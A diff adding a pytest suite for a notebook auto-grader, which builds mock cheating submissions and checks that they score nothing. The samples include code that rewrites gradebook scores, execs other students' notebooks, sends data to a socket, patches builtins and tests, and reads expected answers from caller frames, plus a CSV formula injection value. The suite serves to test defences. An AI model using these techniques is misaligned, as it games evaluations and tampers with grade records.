@@ -1,0 +1,484 @@
+"""Marking a class: right answers keep their marks, cheats get none, and nothing that one student hands in touches another.
+
+The class is marked once, in one gradebook, as a teacher does it; the tests read its marks.
+"""
+
+import copy
+import csv
+import json
+import os
+import re
+import subprocess
+import sys
+import threading
+import zipfile
+
+import cage as cages
+import marking
+import nbformat
+import pytest
+import torch
+from submission import Refused, preflight
+from test_labs import (
+    LABS,
+    MASTER,
+    MISTAKES,
+    REFERENCE,
+    RELEASE,
+    RIGHT,
+    TESTED,
+    doubled,
+    edition,
+    find,
+    reordered,
+    stripped,
+    tampered,
+    write,
+    wrong_answer,
+)
+
+CAGED = cages.kind_of_cage() != "none"
+needs_cage = pytest.mark.skipif(
+    not CAGED and os.environ.get("CI") != "true", reason="no bubblewrap, podman or docker here"
+)
+
+
+def with_cells(notebook, *sources, before="gap"):
+    """The notebook with cells of the student's own."""
+    notebook = copy.deepcopy(notebook)
+    number = find(notebook, before)
+    notebook.cells[number:number] = [nbformat.v4.new_code_cell(source) for source in sources]
+    return notebook
+
+
+def wrongs():
+    """A student whose every exercise has one of its known mistakes."""
+    return edition({one[0]: wrong_answer(*one[:3]) for one in MISTAKES})
+
+
+def hard_coded():
+    """What the public check wants to see, as constants; and a helper left where the next student's kernel would read it."""
+    x = torch.randn(12, generator=torch.Generator().manual_seed(2))
+    radius = [round(float(value), 6) for value in 0.01 * (x.abs() + 1)]
+    leak = (
+        "import os, pathlib\nfolder = pathlib.Path(os.environ['IPYTHONDIR']) / 'profile_default' / 'startup'\n"
+        "folder.mkdir(parents=True, exist_ok=True)\n"
+        "(folder / 'leak.py').write_text('import torch\\nbox_radius = lambda x, eps: eps * (x.abs() + 1)')\n"
+    )
+    return edition(
+        {
+            "box": f"{leak}\n\ndef box_radius(x, eps):\n    return torch.tensor({radius})",
+            "barrier": "def barrier(alphas, loss):\n    return 1.025",
+        }
+    )
+
+
+def hindered():
+    """The reference, with everything in its way that a student leaves behind without harm in mind."""
+    tests = "\n".join(cell.source for cell in MASTER.cells if cell.id.endswith("-test"))
+    names = sorted(
+        set(re.findall(r"\b(?:examine_\w+|Hidden\w+|numbers|max|min|abs|all|any|sum|answer|secret|seed)\b", tests))
+    )
+    scratch = "\n".join(f"{name} = 0" for name in names)
+    endings = (
+        "exit()",
+        "import sys; sys.exit(3)",
+        "quit",
+        "import os\nos._exit(0)",
+        "import signal, os\nos.kill(os.getpid(), 9)",
+    )
+    notebook = with_cells(edition(), *endings)
+    return with_cells(notebook, scratch, "%pip install --quiet numpy==1.0", "print('x' * 10**8)", before="extension")
+
+
+def endless():
+    """A loop that swallows every interrupt in one answer."""
+    loop = "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        continue\n\n\n"
+    return edition({**REFERENCE, "subspace": loop + REFERENCE["subspace"]})
+
+
+def right_otherwise(which):
+    """Every exercise that has one answered by another right answer, the first or the last."""
+    others = {}
+    for exercise, source in RIGHT if which == "last" else reversed(RIGHT):
+        others[exercise] = source
+    return edition({**REFERENCE, **others})
+
+
+def patcher():
+    """A blank lab that changes the language under the tests."""
+    return with_cells(
+        RELEASE,
+        "import ast\n\n\nclass Empty(ast.NodeTransformer):\n"
+        "    def visit_FunctionDef(self, node):\n"
+        "        if node.name.startswith('examine_'):\n            node.body = [ast.Pass()]\n        return node\n\n\n"
+        "get_ipython().ast_transformers.append(Empty())",
+        "import builtins\nbuiltins.abs = lambda x: 0.0\nbuiltins.all = lambda x: True\n"
+        "torch.allclose = torch.equal = lambda *a, **k: True",
+        "class Run:\n    history = {'test_accuracy': [50.0]}\n\n\nflatlab.train = lambda *a, **k: Run()",
+    )
+
+
+def liar():
+    """Answers that claim to be equal to everything, or that look for the right one in the caller."""
+    lie = (
+        "class Lie(torch.Tensor):\n"
+        "    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None):\n        return torch.tensor(True)\n"
+        "    def __eq__(self, other):\n        return True\n    def __float__(self):\n        return 0.0\n\n\n"
+    )
+    look = (
+        "import sys\n    for depth in range(9):\n        try:\n            here = sys._getframe(depth).f_locals\n"
+        "        except ValueError:\n            break\n"
+        "        for name in ('right', 'top', 'answer', 'spread', 'z'):\n            if name in here:\n"
+        "                return here[name]\n    return 0.0"
+    )
+    return edition(
+        {
+            "box": lie + "def box_radius(x, eps):\n    return torch.zeros(len(x)).as_subclass(Lie)",
+            "subspace": "def subspace_radius(x, A, eps):\n    return torch.zeros(A.shape[1]).as_subclass(Lie)",
+            "slope": f"def slope(batches, noise):\n    {look}",
+            "phi": f"def phi(f, x, radius, steps):\n    {look}",
+            "barrier": "class Zero:\n    def __float__(self):\n        return 0.0\n    def __rsub__(self, other):\n        return 0.0\n\n\n"
+            "def barrier(alphas, loss):\n    return Zero()",
+            "gap": "def gap(data, small, large, seeds, epochs):\n"
+            "    flatlab.train = lambda *a, **k: type('Run', (), {'history': {'test_accuracy': [1.0]}})\n    return [0.0] * 3",
+            "line": "def line_loss(f, a, b, alphas):\n    return [f.c for _ in alphas]",
+        }
+    )
+
+
+def thief(port):
+    """Looks for the master, for others' answers and for the gradebook, runs what it finds, and calls home."""
+    return with_cells(
+        RELEASE,
+        "import glob, json, os, subprocess, sys\n"
+        f"places = [*glob.glob('../../../s*/**/*.ipynb', recursive=True), *glob.glob('{LABS}/**/*.ipynb', recursive=True),\n"
+        "          *glob.glob('/home/**/*.ipynb', recursive=True), *glob.glob('/tmp/**/*.ipynb', recursive=True)]\n"
+        "for place in places:\n"
+        "    for cell in json.load(open(place))['cells']:\n"
+        "        if cell['cell_type'] == 'code' and 'def ' in ''.join(cell['source']) and 'Hidden' not in ''.join(cell['source']):\n"
+        "            exec(''.join(cell['source']), globals())\n"
+        "print('found', len(places))",
+        "child = '''\nimport glob, sqlite3, time\ntime.sleep(5)\n"
+        "for book in glob.glob('/**/gradebook.db', recursive=True):\n"
+        "    db = sqlite3.connect(book)\n    db.execute('update grade set manual_score = 30, needs_manual_grade = 0')\n    db.commit()\n'''\n"
+        "subprocess.Popen([sys.executable, '-c', child], start_new_session=True)",
+        f"import socket\nsocket.create_connection(('127.0.0.1', {port}), 2).sendall(b'the master')",
+        before="extension",
+    )
+
+
+@pytest.fixture(scope="session")
+def listener():
+    """(port, what arrived): somebody waits on this machine for what a notebook sends."""
+    import socket
+
+    server, arrived = socket.create_server(("127.0.0.1", 0)), []
+
+    def wait():
+        while True:
+            try:
+                arrived.append(server.accept()[0].recv(99))
+            except OSError:
+                return
+
+    threading.Thread(target=wait, daemon=True).start()
+    yield server.getsockname()[1], arrived
+    server.close()
+
+
+@pytest.fixture(scope="session")
+def class_room(tmp_path_factory, listener):
+    """The directory of a class that was marked: submissions, course, and what was said."""
+    room = tmp_path_factory.mktemp("class")
+    students = {
+        "01-reference": edition(),
+        "02-blank": RELEASE,
+        "03-wrong": wrongs(),
+        "04-stripped": stripped(),
+        "05-reordered-doubled": reordered(),
+        "06-tampered": tampered(hard_coded()),
+        "07-no-box": edition({**REFERENCE, "box": "# not done"}),
+        "08-zip": "PK\x03\x04",
+        "09-two-answers": doubled(" + 0"),
+        "10-endless": endless(),
+        "11-hindered": hindered(),
+        "12-right-first": right_otherwise("first"),
+        "13-right-last": right_otherwise("last"),
+        "14-patcher": patcher(),
+        "15-liar": liar(),
+        "16-thief": thief(listener[0]),
+        "17-half-emoji": with_cells(edition(), "# \ud83d"),
+    }
+    students["05-reordered-doubled"].cells.insert(9, copy.deepcopy(students["05-reordered-doubled"].cells[8]))
+    for name, notebook in students.items():
+        write(room / "submissions" / (f"{name}/Copy of lab1 (1).ipynb" if name < "03" else f"{name}.ipynb"), notebook)
+    (room / "submissions" / os.fsdecode(b"18-\xff.ipynb")).write_text("")
+    (room / "submissions" / "19-other.py").write_text("print()")
+    command = [
+        sys.executable,
+        LABS / "pipeline.py",
+        "mark",
+        room / "submissions",
+        "--work",
+        room / "course",
+        "--jobs",
+        "2",
+    ]
+    env = {**os.environ, "FLATLAB_CELL_SECONDS": "40", "FLATLAB_MARK_SEED": "71"}
+    done = subprocess.run(command, capture_output=True, text=True, env=env)
+    assert done.returncode == 0, done.stdout + done.stderr
+    (room / "said").write_text(done.stdout)
+    return room
+
+
+@pytest.fixture(scope="session")
+def marks(class_room):
+    """{student: {exercise: row}} of the whole class."""
+    rows = list(csv.DictReader((class_room / "course" / "marks.csv").read_text(encoding="utf8").splitlines()))
+    return {row["student"]: {one["exercise"]: one for one in rows if one["student"] == row["student"]} for row in rows}
+
+
+def points(rows):
+    return {name: float(rows[f"{name}-test"]["points"]) for name in TESTED}
+
+
+def test_the_reference_gets_full_marks_and_the_blank_none(marks):
+    assert points(marks["01-reference"]) == TESTED
+    assert {marks["01-reference"][name]["status"] for name in ("epochs-answer", "proof-answer")} == {
+        "to be marked by hand"
+    }
+    assert marks["02-blank"]["total"]["points"] == "0.0" and marks["02-blank"]["total"]["status"] == "marked"
+
+
+def test_a_known_mistake_loses_the_marks_of_its_exercise(marks):
+    assert points(marks["03-wrong"]) == dict.fromkeys(TESTED, 0)
+
+
+@pytest.mark.parametrize("student", ["04-stripped", "05-reordered-doubled"])
+def test_a_mended_submission_gets_full_marks_and_a_note(marks, student):
+    assert points(marks[student]) == TESTED
+    assert marks[student]["total"]["note"]
+
+
+def test_edited_tests_and_hard_coded_answers_get_nothing(marks):
+    assert points(marks["06-tampered"]) == dict.fromkeys(TESTED, 0)
+    assert "was changed: put back" in marks["06-tampered"]["total"]["note"]
+
+
+def test_nothing_that_a_student_leaves_behind_helps_the_next(marks):
+    assert points(marks["07-no-box"]) == {**TESTED, "box": 0}
+
+
+def test_an_endless_loop_costs_its_own_exercise_only(marks):
+    assert points(marks["10-endless"]) == {**TESTED, "subspace": 0}
+    assert "would not be interrupted" in marks["10-endless"]["total"]["note"]
+
+
+def test_refusals_name_the_student_and_say_why(marks):
+    for student, words in (
+        ("08-zip", "not JSON"),
+        ("09-two-answers", "'box' is answered in 2 cells"),
+        ("18-\ufffd", "the file is empty"),
+        ("19-other.py", "it is a .py and not a notebook"),
+    ):
+        row = marks[student]["total"]
+        assert row["status"].startswith("refused") and words in row["status"] and row["points"] == ""
+
+
+def test_exit_a_killed_kernel_and_names_of_ones_own_cost_nothing(marks):
+    assert points(marks["11-hindered"]) == TESTED
+    assert marks["11-hindered"]["total"]["note"].count("the kernel ended in cell") == 2
+
+
+@pytest.mark.parametrize("student", ["12-right-first", "13-right-last", "17-half-emoji"])
+def test_other_right_answers_keep_their_marks(marks, student):
+    assert points(marks[student]) == TESTED
+
+
+@pytest.mark.parametrize("student", ["14-patcher", "15-liar"])
+def test_a_cheat_gets_nothing_with_a_cage_or_without(marks, student):
+    assert points(marks[student]) == dict.fromkeys(TESTED, 0)
+
+
+@needs_cage
+def test_in_the_cage_there_is_no_master_no_gradebook_and_no_network(marks, class_room, listener):
+    assert points(marks["16-thief"]) == dict.fromkeys(TESTED, 0)
+    assert marks["16-thief"]["total"]["points"] == "0.0" and listener[1] == []
+    kept = json.loads((class_room / "course" / "executed" / "16-thief.json").read_text())
+    printed = json.dumps(kept["outputs"])
+    assert "found 0" in printed and "Connection refused" in printed
+    assert float(marks["01-reference"]["total"]["points"]) == 20
+
+
+def test_feedback_has_the_checks_sentence_and_no_hidden_test(class_room):
+    said = (class_room / "course" / "feedback" / "03-wrong.md").read_text()
+    assert "- **box**: 0.0 of 2.0\n  ✗ box: it changes its argument x in place" in said
+    assert not re.search("examine_|HIDDEN|assert", said)
+
+
+def test_the_same_command_marks_nobody_twice_and_another_seed_says_so(class_room, monkeypatch):
+    said = []
+    monkeypatch.setattr(marking, "executed", lambda *a: (_ for _ in ()).throw(Refused("not run again")))
+    monkeypatch.setenv("FLATLAB_MARK_SEED", "72")
+    assert marking.kept_seed(class_room / "course", said.append) == "72"
+    assert "was marked with 71: everybody is marked again" in said[0]
+    monkeypatch.delenv("FLATLAB_MARK_SEED")
+    assert marking.kept_seed(class_room / "course", said.append) == "72"
+
+
+def test_two_markings_of_one_course_at_once_say_so(tmp_path):
+    with (
+        marking.alone(tmp_path),
+        pytest.raises(SystemExit, match="is being marked by another command"),
+        marking.alone(tmp_path),
+    ):
+        pass
+
+
+# Who has handed in what
+
+
+def handed_in(folder, **files):
+    folder.mkdir(exist_ok=True)
+    for name, text in files.items():
+        (folder / name).write_text(text)
+    return folder
+
+
+def test_every_entry_of_the_folder_has_a_row(tmp_path):
+    names = ["a.ipynb.txt", "b.IPYNB", "c.py", "d.html", "__max.ipynb", "f", "g (1).ipynb"]
+    found = marking.collect(handed_in(tmp_path / "s", **dict.fromkeys(names, "{}")), room=tmp_path)
+    assert len(found) == len(names)
+    assert {student for student, one in found.items() if one["refused"]} == {"c.py", "d.html", "f"}
+
+
+def test_a_zip_is_opened_and_what_is_alike_is_one(tmp_path):
+    folder = handed_in(tmp_path / "s")
+    with zipfile.ZipFile(folder / "ada.zip", "w") as packed:
+        packed.writestr("a/lab1.ipynb", "{}")
+        packed.writestr("a/copy of lab1.ipynb", "{}")
+        packed.writestr("__MACOSX/._lab1.ipynb", "junk")
+    found = marking.collect(folder, room=tmp_path)
+    assert found["ada"]["file"] and not found["ada"]["refused"] and "all alike" in found["ada"]["notes"][0]
+
+
+@pytest.mark.parametrize(
+    "platform, names",
+    [
+        ("canvas", ["adalovelace_LATE_123_456_lab1.ipynb", "adalovelace_LATE_123_999_lab1-1.ipynb"]),
+        (
+            "blackboard",
+            [
+                "lab1_adalovelace_attempt_2026-01-01-10-00-00_x.ipynb",
+                "lab1_adalovelace_attempt_2026-01-02-10-00-00_x.ipynb",
+            ],
+        ),
+    ],
+)
+def test_a_platforms_names_are_read_and_the_last_attempt_counts(tmp_path, platform, names):
+    folder = handed_in(tmp_path / "s", **{names[0]: "first", names[1]: "last"})
+    (found,) = marking.collect(folder, names=platform, room=tmp_path).items()
+    assert found[0] == "adalovelace" and found[1]["file"].read_text() == "last"
+    assert ("handed in late." in found[1]["notes"]) == (platform == "canvas")
+
+
+def test_moodles_folders_are_read(tmp_path):
+    folder = tmp_path / "s" / "Ada Lovelace_42_assignsubmission_file_"
+    folder.mkdir(parents=True)
+    (folder / "lab1.ipynb").write_text("{}")
+    assert list(marking.collect(tmp_path / "s", names="moodle", room=tmp_path)) == ["Ada Lovelace"]
+
+
+def test_a_table_holds_no_formula(tmp_path):
+    marking.table(tmp_path / "t.csv", ("student", "points"), [{"student": "=cmd()", "points": 3}])
+    assert (tmp_path / "t.csv").read_text().splitlines()[1] == "'=cmd(),3"
+
+
+# One submission
+
+
+@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
+def test_other_encodings_are_read(tmp_path, encoding):
+    (tmp_path / "one.ipynb").write_bytes(json.dumps(edition()).encode(encoding))
+    assert preflight(tmp_path / "one.ipynb", RELEASE)[1] == []
+
+
+@pytest.mark.parametrize("where", ["below", "in the question"])
+def test_a_free_answer_beside_its_cell_is_found(tmp_path, where):
+    notebook = edition({name: source for name, source in REFERENCE.items() if name != "epochs-answer"})
+    number = find(notebook, "epochs-answer")
+    if where == "below":
+        notebook.cells.insert(number + 1, nbformat.v4.new_markdown_cell("Because of the updates."))
+    else:
+        notebook.cells[number - 1].source += "\n\nBecause of the updates."
+    mended, notes = preflight(write(tmp_path / "one.ipynb", notebook), RELEASE)
+    assert mended.cells[find(mended, "epochs-answer")].source == "Because of the updates."
+    assert "'epochs-answer' stood beside its cell" in " ".join(notes)
+    blank, notes = preflight(write(tmp_path / "two.ipynb", RELEASE), RELEASE)
+    assert not notes and blank.cells[find(blank, "proof-answer")].source.startswith("**Your answer:**")
+
+
+# The cage
+
+
+@pytest.fixture
+def cage(tmp_path):
+    with cages.Cage(tmp_path, seconds=20) as made:
+        yield made
+
+
+def test_what_comes_out_of_the_cage_are_values(cage):
+    cage.run(
+        "import torch\ndef f(x, g):\n    x *= 2\n    return {'sum': g.value(x), 'x': (x, [1, None, float('inf')])}"
+    )
+
+    class Sum:
+        secret = 7
+
+        def value(self, y):
+            return float(y.sum())
+
+    x = torch.ones(3)
+    found = cage.function("f")(x, Sum())
+    assert found["sum"] == 6 and torch.equal(found["x"][0], x) and found["x"][1] == [1, None, float("inf")]
+    assert torch.equal(x, torch.full((3,), 2.0)), "what the function did to its argument was done to ours"
+    cage.run("def peep(g):\n    return g.secret")
+    with pytest.raises(cages.Failed, match="AttributeError"):
+        cage.function("peep")(Sum())
+
+
+def test_a_process_that_ended_is_followed_by_one_that_knows_the_cells_before(cage):
+    cage.run("seen = 3")
+    with pytest.raises(cages.Died, match="it ended"):
+        cage.run("import os\nos._exit(0)")
+    assert cage.value("seen") == 3
+
+
+def test_what_a_cell_prints_is_cut_off(cage):
+    (output,) = cage.run("print('x' * 10**6)")
+    assert len(output["text"]) < 30_000 and "characters more, which were cut off" in output["text"]
+
+
+@needs_cage
+def test_the_walls_of_the_cage(cage, tmp_path):
+    text = json.dumps(cage.run(f"import os\nos.listdir('{LABS}')"))
+    assert "FileNotFoundError" in text
+    assert "Read-only file system" in json.dumps(cage.run("import flatlab\nopen(flatlab.__file__, 'a')"))
+    assert (
+        cage.run("import os\nos.environ.get('FLATLAB_MARK_SEED'), os.getppid() < 3")[0]["data"]["text/plain"]
+        == "(None, True)"
+    )
+
+
+def test_without_a_cage_it_is_said(tmp_path, monkeypatch):
+    monkeypatch.setattr(marking, "kind_of_cage", lambda: "none")
+    monkeypatch.setattr(marking, "executed", lambda *a: (_ for _ in ()).throw(Refused("not run here")))
+    said = []
+    write(tmp_path / "s" / "ada.ipynb", with_cells(edition(), "import subprocess"))
+    marking.mark(tmp_path / "s", tmp_path / "c", roster=["ada", "grace"], say=lambda *a, **k: said.append(" ".join(a)))
+    assert "There is no cage here" in said[0]
+    rows = list(csv.DictReader((tmp_path / "c" / "marks.csv").read_text().splitlines()))
+    note = {row["student"]: row for row in rows}
+    assert "uncaged" in note["ada"]["note"] and "subprocess" in note["ada"]["note"]
+    assert note["grace"]["status"] == "nothing handed in"
